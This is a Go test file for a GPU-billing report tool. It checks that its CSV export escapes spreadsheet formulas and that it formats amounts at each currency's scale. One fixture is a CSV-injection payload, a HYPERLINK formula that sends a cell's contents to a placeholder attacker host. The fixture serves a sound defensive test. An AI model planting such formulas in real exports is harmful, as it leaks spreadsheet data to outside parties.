package main

import (
	"bytes"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bourse/bourse/breakdown"
)

// TestReportCSVInjection: a server may announce any GPU model, and a
// client's id is hers: the report's CSV writes them so that a spreadsheet
// reads text, not a formula. Its cost is at CRED's places (-0.50, not the
// ledger's -0.5), as the console's CSV has it.
func TestReportCSVInjection(t *testing.T) {
	var buf bytes.Buffer
	cred := &scales{known: map[string]int32{}, lookup: func(code string) (int32, bool) { return 2, code == "CRED" }}
	require.NoError(t, writeReportCSV(&buf, breakdown.Report{Lines: []breakdown.Line{{
		Period: "2026-11-20", Currency: "CRED", Client: "@alice", Model: `=HYPERLINK("http://evil.example/?"&A1,"H100")`,
		Contracts: 1, GPUSeconds: decimal.NewFromInt(-1), Cost: decimal.RequireFromString("-0.50"),
	}}}, cred))
	assert.Equal(t, "period,currency,org,project,client,model,contracts,gpu_seconds,cost\n"+
		`2026-11-20,CRED,,,'@alice,"'=HYPERLINK(""http://evil.example/?""&A1,""H100"")",1,-1,-0.50`+"\n", buf.String())
}

// TestReportOneMoneyFormat: every amount of the report's tables at its
// currency's scale, so that 4 CRED is 4.00 beside 1.83; a currency the
// ledger does not know is written exactly.
func TestReportOneMoneyFormat(t *testing.T) {
	d := decimal.RequireFromString
	r := breakdown.Report{
		Lines: []breakdown.Line{
			{Period: "2026-11-20", Currency: "CRED", Client: "ada", Model: "H100", Contracts: 1, GPUSeconds: d("10"), Cost: d("4")},
			{Period: "2026-11-20", Currency: "CRED", Client: "bob", Model: "H100", Contracts: 1, GPUSeconds: d("5"), Cost: d("1.83")},
			{Period: "2026-11-20", Currency: "ODD", Client: "cyd", Model: "H100", Contracts: 1, GPUSeconds: d("5"), Cost: d("1.5")},
		},
		Servers: []breakdown.ServerLine{{Period: "2026-11-20", Server: "gpu1", Currency: "CRED", Contracts: 2, GPUSeconds: d("15"), Revenue: d("5.83")}},
		Prices:  []breakdown.PriceLine{{Period: "2026-11-20", Currency: "CRED", GPUSeconds: d("15"), Cost: d("6"), PerGPUSecond: d("0.4")}},
	}
	var buf bytes.Buffer
	require.NoError(t, writeReportTables(&buf, r, func(code string) (int32, bool) { return 2, code == "CRED" }))
	out := buf.String()
	assert.Regexp(t, `ada +H100 +1 +10\.0 +4\.00 CRED\n`, out)
	assert.Regexp(t, `bob +H100 +1 +5\.0 +1\.83 CRED\n`, out)
	assert.Regexp(t, `cyd +H100 +1 +5\.0 +1\.5 ODD\n`, out)
	assert.Regexp(t, `gpu1 +2 +15\.0 +5\.83 CRED +-\n`, out)
	assert.Regexp(t, `CRED +15\.0 +6\.00 CRED +1440\.00 +0\.4\n`, out, "the average price per GPU-hour, at CRED's places, beside the exact per GPU-second")
}
